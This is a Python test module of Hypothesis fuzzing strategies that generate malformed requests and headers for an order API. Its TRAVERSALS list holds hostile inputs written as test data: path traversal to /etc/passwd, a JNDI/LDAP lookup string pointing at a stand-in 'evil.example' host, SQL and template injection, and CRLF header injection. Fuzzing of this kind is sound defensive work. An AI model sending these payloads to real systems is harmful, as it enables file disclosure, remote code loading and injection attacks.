"""Hypothesis strategies for requests that no client should send."""

from __future__ import annotations

from hypothesis import strategies as st

from api.serializers import OrderOfItems, OrderOfOneProduct

FIELDS = tuple({**OrderOfOneProduct().fields, **OrderOfItems().fields})
VALID = {
    "customer_name": st.just("Test Customer"),
    "product_name": st.just("Test Product"),
    "quantity": st.integers(1, 1000),
    "payment_method": st.just("tok_visa"),
}

REQUIRED = ("customer_name", "product_name", "quantity")

NAMES = (
    "Authorization",
    "Idempotency-Key",
    "Prefer",
    "X-Request-Id",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "X-Amzn-Trace-Id",
    "Accept",
    "Content-Encoding",
    "Host",
)
"""The headers that the API, its framework or its server reads."""

TRAVERSALS = (
    "..",
    "../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "....//",
    "\0",
    "order-1\0.json",
    "/",
    "//evil.example/",
    "order-1;cancel",
    "order-1?x=1#y",
    "{{7*7}}",
    "${jndi:ldap://evil.example/}",
    "' OR 1=1 --",
    "\r\nX-Injected: 1",
    "x" * 65,
    "x" * 3000,
    "ⅷ",
    "\u202e",
)

text = st.text() | st.text(st.characters(categories=["Cs", "Cc"]))
scalars = st.none() | st.booleans() | st.integers() | st.floats() | text
garbage = st.recursive(
    scalars, lambda inner: st.lists(inner) | st.dictionaries(text | st.sampled_from(FIELDS), inner), max_leaves=20
)
almost_orders = st.fixed_dictionaries(
    {name: VALID[name] | VALID[name] | garbage for name in REQUIRED},
    optional={name: VALID.get(name, garbage) | garbage for name in FIELDS if name not in REQUIRED},
)

header_values = st.one_of(
    st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=300).map(str.encode),
    st.binary(max_size=60),
    st.just(b"x" * 5000),
    st.sampled_from(
        [
            b"gzip",
            b"identity",
            b"k,k",
            b"Bearer a.b.c",
            b"Bearer e30.e30.",
            b"Bearer \xff",
            b'"',
            b"respond-async, wait=-1",
            b"wait=1e999",
        ]
    ),
)
"""Values of a header, mostly of valid characters."""
